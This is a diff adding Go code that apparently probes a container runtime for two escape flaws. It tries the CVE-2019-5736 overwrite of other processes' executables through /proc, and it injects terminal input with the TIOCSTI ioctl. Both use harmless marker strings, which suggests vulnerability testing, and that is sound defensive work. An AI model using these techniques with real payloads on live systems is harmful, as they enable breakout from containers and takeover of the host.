@@ -1,0 +1,68 @@
+package main
+
+import (
+	"fmt"
+	"io"
+	"os"
+	"strconv"
+	"syscall"
+	"time"
+	"unsafe"
+)
+
+// overwrite waits for programs that are not this one to come by in its process namespace, keeps them open, and tries to
+// write to them, also when they have ended (CVE-2019-5736). It does so for two seconds.
+func overwrite(out io.Writer) error {
+	own, err := os.Stat("/proc/self/exe")
+	if err != nil {
+		return err
+	}
+	var kept []*os.File
+	written := 0
+	seen := make(map[string]bool)
+	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
+		entries, err := os.ReadDir("/proc")
+		if err != nil {
+			return err
+		}
+		for _, entry := range entries {
+			if _, err := strconv.Atoi(entry.Name()); err != nil || seen[entry.Name()] || len(kept) > 100 {
+				continue
+			}
+			f, err := os.Open("/proc/" + entry.Name() + "/exe")
+			if err != nil {
+				continue // not to be looked at, perhaps yet
+			}
+			info, err := f.Stat()
+			if err != nil || os.SameFile(info, own) {
+				f.Close()
+				continue
+			}
+			seen[entry.Name()] = true
+			kept = append(kept, f)
+		}
+		for _, f := range kept {
+			w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY|os.O_APPEND, 0)
+			if err == nil {
+				fmt.Fprint(w, "overwritten")
+				w.Close()
+				written++
+			}
+		}
+	}
+	fmt.Fprintf(out, "seen %d written %d\n", len(kept), written)
+	return nil
+}
+
+// tiocsti puts words into the input of the terminal that is standard input (TIOCSTI, ioctl_tty(2)).
+func tiocsti(out io.Writer) error {
+	for _, b := range []byte("echo from the container\n") {
+		_, _, errno := syscall.Syscall(syscall.SYS_IOCTL, 0, 0x5412, uintptr(unsafe.Pointer(&b)))
+		if errno != 0 {
+			fmt.Fprintln(out, "TIOCSTI:", errno)
+			return nil
+		}
+	}
+	fmt.Fprintln(out, "TIOCSTI: ok")
+	return nil
+}
